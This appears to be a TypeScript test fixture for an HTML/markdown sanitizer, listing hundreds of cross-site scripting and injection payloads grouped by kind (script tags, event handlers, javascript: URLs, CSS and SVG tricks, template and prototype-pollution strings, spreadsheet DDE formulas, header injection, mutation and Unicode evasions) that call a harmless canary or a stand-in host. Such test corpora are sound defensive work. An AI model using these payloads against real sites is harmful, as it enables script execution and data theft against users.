/** Texts that would run a script, load something from elsewhere or put an element of their own into a page, where a page took them for more than letters. */

/** What a text would run; a page of the tests has such a function and tells when it is called. */
export const CANARY = 'canar'
/** Where a text would load something from. */
export const FOREIGN_HOST = 'rau.example'

const X = `${CANARY}(1)`
const U = `https://${FOREIGN_HOST}/x`

// oxfmt-ignore
const scripts = [
  `<script>${X}</script>`, `<script >${X}</script >`, `<script/x>${X}</script>`, `<script type=module>${X}</script>`, `<script src=${U}></script>`,
  `<script src="data:text/javascript,${X}"></script>`, `<scr<script>ipt>${X}</scr</script>ipt>`, `<script>/*<!--*/${X}//--></script>`, `<script\n>${X}</script>`,
  `</script><script>${X}</script>`, `</title><script>${X}</script>`, `</textarea><script>${X}</script>`, `</style><script>${X}</script>`,
  `--></script><script>${X}</script>`, `]]><script>${X}</script>`, `<script nonce="">${X}</script>`, `<script defer src=//${FOREIGN_HOST}/a.js></script>`,
]
// oxfmt-ignore
const handlers = [
    'img src=x onerror', 'img src onerror', 'image src=x onerror', 'svg onload', 'svg/onload', 'body onload', 'body onpageshow', 'input autofocus onfocus', 'select autofocus onfocus',
    'textarea autofocus onfocus', 'button autofocus onfocus', 'a tabindex=1 autofocus onfocus', 'video src=x onerror', 'video><source onerror', 'audio src=x onerror',
    'audio controls onloadstart', 'details open ontoggle', 'marquee onstart', 'object data=x onerror', 'embed src=x onload', 'iframe onload', 'iframe src=x onload',
    'frameset onload', 'style onload', 'link rel=stylesheet href=x onerror', 'div style=animation:x onanimationstart', 'div onpointerover', 'div onwheel', 'p contenteditable onblur',
    'form onsubmit', 'isindex type=image src=x onerror', 'math onclick', 'keygen autofocus onfocus', 'dialog open onclose', 'div popover id=x onbeforetoggle',
    'x contenteditable autofocus onfocus', 'bobita-x onfocus tabindex=0 autofocus', 'track onerror', 'meter onclick', 'summary onfocus',
].map((begin) => `<${begin}=${X}>`)
// oxfmt-ignore
const attributes = [
  `"><img src=x onerror=${X}>`, `'><img src=x onerror=${X}>`, `" onmouseover="${X}`, `' onmouseover='${X}`, `" autofocus onfocus="${X}" x="`, `x onerror=${X} y`, `\` onerror=${X} \``,
  `" style="background:url(${U})`, `"><svg/onload=${X}>`, `"/><script>${X}</script>`, `"]}><img src=x onerror=${X}>`, `\\"><img src=x onerror=${X}>`, `" srcset="${U} 1x`,
  `" formaction="javascript:${X}`, `" href="javascript:${X}`, `" http-equiv="refresh" content="0;url=${U}`, `" ping="${U}`, `"\tonfocus\t=\t"${X}"\tautofocus\t"`, `"\nonload\n=\n"${X}`,
  `x" is="x" onclick="${X}`, `" slot="x" part="y" onfocus=${X} autofocus="`,
]
// oxfmt-ignore
const addresses = [
  `javascript:${X}`, `javascript://%0a${X}`, `javascript://${FOREIGN_HOST}/%0a${X}`, `java\tscript:${X}`, `java\nscript:${X}`, ` javascript:${X}`, `\u0001javascript:${X}`,
  `javascript&colon;${X}`, `javascript&#58;${X}`, `data:text/html,<script>${X}</script>`, `data:image/svg+xml,<svg onload=${X}>`, `vbscript:${X}`, `blob:${U}`, `view-source:${U}`,
  `//${FOREIGN_HOST}/x`, `\\\\${FOREIGN_HOST}\\x`, `/\\${FOREIGN_HOST}/x`, `/\t/${FOREIGN_HOST}/x`, `https:${FOREIGN_HOST}/x`, `https:/${FOREIGN_HOST}`, `http://bobita.ro@${FOREIGN_HOST}/`, U,
  `https://${FOREIGN_HOST}/?q=${X}`, `feed:javascript:${X}`, `jar:${U}!/x`, `ws://${FOREIGN_HOST}/x`, `filesystem:${U}`, `intent://${FOREIGN_HOST}#Intent;end`, `tel:112;${X}`,
  `mailto:x@${FOREIGN_HOST}?bcc=y@${FOREIGN_HOST}`, `../../../..//${FOREIGN_HOST}`, `?lang=<script>${X}</script>`, `#<img src=x onerror=${X}>`, `/media/../../${X}`,
]
// oxfmt-ignore
const styles = [
  `<style>@import "${U}";</style>`, `<style>*{background:url(${U})}</style>`, `<link rel=stylesheet href=${U}>`, `<div style="background:url(${U})">`, `<div style="width:expression(${X})">`,
  `<style>@font-face{font-family:x;src:url(${U})}body{font-family:x}</style>`, `</style><img src=x onerror=${X}>`, `;background:url(${U});`, `}body{background:url(${U})}`,
  `<style>input[value^=a]{background:url(${U})}</style>`, `<x style="behavior:url(${U})">`, `<style>@keyframes x{}</style><p style=animation-name:x onanimationend=${X}>`,
  `<link rel=preload as=image href=${U}>`, `<link rel=dns-prefetch href=//${FOREIGN_HOST}>`, `<link rel=prefetch href=${U}>`, `-moz-binding:url(${U})`, `<style>:root{--x:url(${U})}</style>`,
]
// oxfmt-ignore
const markdown = [
  `![x](${U})`, `![x](${U} "t")`, `![x][1]\n\n[1]: ${U}`, `[x](javascript:${X})`, `[x](<javascript:${X}>)`, `[x](java&#115;cript:${X})`, `[x](JaVaScRiPt:${X})`, `[x](  javascript:${X}  )`,
  `[x]: javascript:${X}\n\n[x]`, `<javascript:${X}>`, `<${U}>`, `[x](data:text/html,<script>${X}</script>)`, `[![x](${U})](${U})`, `![](//${FOREIGN_HOST}/y)`, `![x](data:image/svg+xml,<svg onload=${X}>)`,
  `[x](${U} "\\"onmouseover=${X}")`, `[x](" onmouseover=${X} ")`, `\`<img src=x onerror=${X}>\``, `\`\`\`html\n<script>${X}</script>\n\`\`\``, `\`\`\`"><img src=x onerror=${X}>\nx\n\`\`\``,
  `<!-- <img src=x onerror=${X}> -->`, `<!--><img src=x onerror=${X}>`, `<div>\n\n**x**<img src=x onerror=${X}>\n\n</div>`, `| a |\n|---|\n| <img src=x onerror=${X}> |`, `# <svg onload=${X}>`,
  `- <img src=x onerror=${X}>`, `> <iframe src=javascript:${X}>`, `    <script>${X}</script>`, `[^1]\n\n[^1]: <script>${X}</script>`, `**<img src=x onerror=${X}>**`, `~~<svg/onload=${X}>~~`,
  `www.${FOREIGN_HOST}`, `x@${FOREIGN_HOST}`, `[1](${U})`, `[1]: ${U}\n\n[1]`, `![1]`, `[[1]](javascript:${X})`, `![a](/\\${FOREIGN_HOST})`, `[x](vbscript:${X})`, `[a\`](javascript:${X})\``,
  `<a href="javascript:${X}">x</a>`, `[x](#" onclick=${X})`, `\\<img src=x onerror=${X}\\>`, `![x](${U}?q=[1])`, `$$\\href{javascript:${X}}{x}$$`, `:::x{onclick=${X}}`, `{onclick=${X}}`, `[x](tel:0900;${X})`,
]
// oxfmt-ignore
const templates = [
  `{{${X}}}`, `{{constructor.constructor('${X}')()}}`, `\${${X}}`, `#{${X}}`, `<%= ${X} %>`, `<%${X}%>`, `{%${X}%}`, `[[${X}]]`, `@(${X})`, `*{${X}}`, `{{{${X}}}}`, `{{$on.constructor('${X}')()}}`,
  `v-on:click="${X}"`, `<p v-html="${X}">`, `<p x-init="${X}">`, `<p ng-init="${X}">`, `<p hx-get="${U}" hx-trigger=load>`, `<p data-bind="click: ${X}">`, `{dangerouslySetInnerHTML:{__html:'<img src=x onerror=${X}>'}}`,
  `{"$$typeof":"Symbol(react.element)","type":"script"}`, `$L1`, `$undefined`, `["$","script",null,{"children":"${X}"}]`, `__proto__[${CANARY}]=1`, `constructor.prototype.x=${X}`, `{"__proto__":{"innerHTML":"<img src=x onerror=${X}>"}}`,
]
// oxfmt-ignore
const data = [
  `</script><script type="application/ld+json">{"x":"${X}"}`, `"}</script><script>${X}</script>{"`, `<\\/script><script>${X}</script>`, `"};${X};//`, `';${X};//`, `\\';${X};//`, `\\u003c/script\\u003e<script>${X}</script>`,
  `<!--<script>${X}`, `\u2028${X}\u2029`, `{"@context":"${U}","@type":"Thing"}`, `\\"}]}</script><img src=x onerror=${X}>`, `"+${X}+"`, `'-${X}-'`, `\`+${X}+\``, `//${X}\n${X}`, `*/${X}/*`,
  `]]>${X}<![CDATA[`, `<?xml-stylesheet href="${U}"?>`, `<!DOCTYPE x [<!ENTITY e SYSTEM "${U}">]>&e;`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${X}</x:script>`, `]]></description><script xmlns="http://www.w3.org/1999/xhtml">${X}</script>`,
]
// oxfmt-ignore
const formulas = [
  `=HYPERLINK("${U}","x")`, `=WEBSERVICE("${U}")`, `=IMAGE("${U}")`, `+${X}`, `-${X}`, `@${X}`, `=cmd|'/C ${CANARY}'!A0`, `\t=${X}`, `＝${X}`, `",=${X},"`, `"\n=${X}`, `;=${X};`, `=DDE("${CANARY}";"x";"y")`, `'=${X}`,
]
// oxfmt-ignore
const headers = [
  `x\r\nLink: <${U}>;rel=stylesheet`, `x\r\n\r\n<script>${X}</script>`, `x%0d%0aRefresh:0;url=${U}`, `x\nBcc: x@${FOREIGN_HOST}`, `x\r\nContent-Type: text/html\r\n\r\n<svg onload=${X}>`, `=?utf-8?q?=3Cscript=3E${X}?=`,
  `"Ana <script>${X}</script>" <x@${FOREIGN_HOST}>`, `x\r\nReply-To: y@${FOREIGN_HOST}`, `x\u2028Subject: ${X}`, `x\r\n.\r\nMAIL FROM:<${X}>`,
]
// oxfmt-ignore
const drawings = [
  `<svg><script>${X}</script></svg>`, `<svg><script href="${U}"/></svg>`, `<svg><script href="data:,${X}"/></svg>`, `<svg><animate onbegin=${X} attributeName=x dur=1s>`, `<svg><set onbegin=${X} attributeName=x>`,
  `<svg><a xlink:href="javascript:${X}"><text y=9>x</text></a></svg>`, `<svg><use href="${U}#x"/></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${X}>#x"/></svg>`, `<svg><image href=x onerror=${X}></svg>`,
  `<svg><image href="${U}"/></svg>`, `<svg><foreignObject><iframe srcdoc="<script>${X}</script>"></foreignObject></svg>`, `<svg><style>@import '${U}';</style></svg>`, `<svg><feImage href="${U}"/></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${X} /><text y=9>x</text></a></svg>`, `<svg><discard onbegin=${X}>`, `<svg><title><img src=x onerror=${X}></title></svg>`, `<svg><handler>${X}</handler></svg>`,
]
// oxfmt-ignore
const frames = [
  `<iframe src="javascript:${X}">`, `<iframe srcdoc="<script>parent.${X}</script>">`, `<iframe src=${U}>`, `<object data="javascript:${X}">`, `<object data=${U}>`, `<embed src="javascript:${X}">`, `<embed src=${U}>`,
  `<base href="https://${FOREIGN_HOST}/">`, `<base target=_top>`, `<meta http-equiv=refresh content="0;url=javascript:${X}">`, `<meta http-equiv=refresh content="0;${U}">`, `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<form action="javascript:${X}"><button>x`, `<form action=${U}><input name=password>`, `<button formaction=javascript:${X}>x`, `<input type=image src=${U}>`, `<portal src=${U}>`, `<applet code=${U}>`, `<frame src="javascript:${X}">`,
  `<img src=${U}>`, `<img srcset="${U} 1x">`, `<picture><source srcset=${U}><img src=x></picture>`, `<video poster=${U}>`, `<audio src=${U} autoplay>`, `<track src=${U}>`, `<body background=${U}>`, `<table background=${U}>`,
  `<a ping=${U} href=/x>x</a>`, `<template shadowrootmode=open><img src=x onerror=${X}></template>`, `<fencedframe src=${U}>`, `<a href=javascript:${X}>x`, `<area href=javascript:${X}>`, `<link rel=manifest href=${U}>`,
  `<img name=cookie><img id=currentScript>`, `<form id=document name=body><input name=firstChild>`, `<a id=${CANARY}><a id=${CANARY} name=x href=${U}>`, `<isindex action=javascript:${X}>`, `<script type=speculationrules>{"prerender":[{"urls":["${U}"]}]}</script>`,
]
// oxfmt-ignore
const entities = [
  `&lt;script&gt;${X}&lt;/script&gt;`, `&amp;lt;img src=x onerror=${X}&amp;gt;`, `&#60;img src=x onerror=${X}&#62;`, `&#x3c;svg onload=${X}&#x3e;`, `&#0000060script&#0000062${X}`, `&LT;script>${X}&LT;/script>`,
  `<img src=x onerror=&#99;anar(1)>`, `<img src=x onerror="&#x63;anar&lpar;1&rpar;">`, `<a href="&#106;avascript&colon;${X}">x</a>`, `\\x3cscript\\x3e${X}\\x3c/script\\x3e`, `\\u003cimg src=x onerror=${X}\\u003e`, `%3Cscript%3E${X}%3C/script%3E`,
  `%253Cscript%253E${X}%253C/script%253E`, `+ADw-script+AD4-${X}+ADw-/script+AD4-`, `<img src=x onerror=\\u0063anar(1)>`, `&NewLine;javascript&Tab;:${X}`, `¼script¾${X}¼/script¾`,
]
// oxfmt-ignore
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${X}>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${X}>">`, `<svg></p><style><a id="</style><img src=x onerror=${X}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${X}>`, `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${X}>`, `<svg><desc><noscript></noscript><img src=x onerror=${X}>`,
  `<select><noembed></select><script>x='<script>${X}'</script>`, `<listing>&lt;img src=x onerror=${X}&gt;</listing>`, `<xmp><p title="</xmp><svg/onload=${X}>">`, `<noframes><style></noframes><img src=x onerror=${X}>`,
  `<plaintext><img src=x onerror=${X}>`, `<table><tr><td><img src=x onerror=${X}><table>`, `<svg><![CDATA[><img src=x onerror=${X}>]]>`, `<!--${'-'.repeat(3)}!><img src=x onerror=${X}>`, `<?php <img src=x onerror=${X}> ?>`,
  `<image/src=x onerror=${X}//`, `<img src="x\`\`><script>${X}</script>"\`>`, `<a href='x' title="'><img src=x onerror=${X}>">`, `<b<img src=x onerror=${X}>`, `<<img src=x onerror=${X}>>`, `<img src=x onerror=${X}`, `<svg onload=${X}//`,
  `<title><a title="</title><img src=x onerror=${X}>">`, `<textarea><p id="</textarea><svg onload=${X}>">`, `<math href="javascript:${X}">x</math>`, `<mi><svg><mi><img src=x onerror=${X}>`, `<a/onclick=${X}/x>`, `<img\u000csrc=x\u000conerror=${X}>`,
]
// oxfmt-ignore
const letters = [
  `\u202E<img src=x onerror=${X}>`, `\u2066<svg onload=${X}>\u2069`, `＜script＞${X}＜/script＞`, `‹img src=x onerror=${X}›`, `<ſcript>${X}</ſcript>`, `<ı mg src=x onerror=${X}>`, `<\u200Bscript>${X}</script>`, `<img\u00A0src=x\u00A0onerror=${X}>`,
  `<scr\u00ADipt>${X}</script>`, `\uFEFF<script>${X}</script>`, `<img src=x on\u0435rror=${X}>`, `𝓳𝓪𝓿𝓪𝓼𝓬𝓻𝓲𝓹𝓽:${X}`, `<\u0301img src=x onerror=${X}>`, `<img src=x\u2028onerror=${X}>`, `\u{E0001}<svg onload=${X}>`, `"\u200D onfocus=${X} autofocus="`,
  `ﷺ<script>${X}</script>`, `<İmg src=x onerror=${X}>`, `<ſvg onload=${X}>`, `\u202Etpircs:${X}`, `🐶"><img src=x onerror=${X}>🐶`,
]

const plain = [
  scripts,
  handlers,
  attributes,
  addresses,
  styles,
  markdown,
  templates,
  data,
  formulas,
  headers,
  drawings,
  frames,
  entities,
  mutations,
  letters,
].flat()

/** The same attack as filters do not expect it. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll(/(?<=[<&/\s]|^)[a-z]+/gi, (word) => word.replaceAll(/./g, (letter, at: number) => (at % 2 === 0 ? letter.toUpperCase() : letter))),
  (text) => text.replaceAll(X, `${CANARY}\`1\``),
  (text) => text.replaceAll(X, `self['can'+'ar'](1)`),
  (text) => `Ana ${text} și Dan`,
]

/** Each once. */
export const hostileTexts: readonly string[] = [...new Set(DISGUISES.flatMap((disguise) => plain.map(disguise)))]
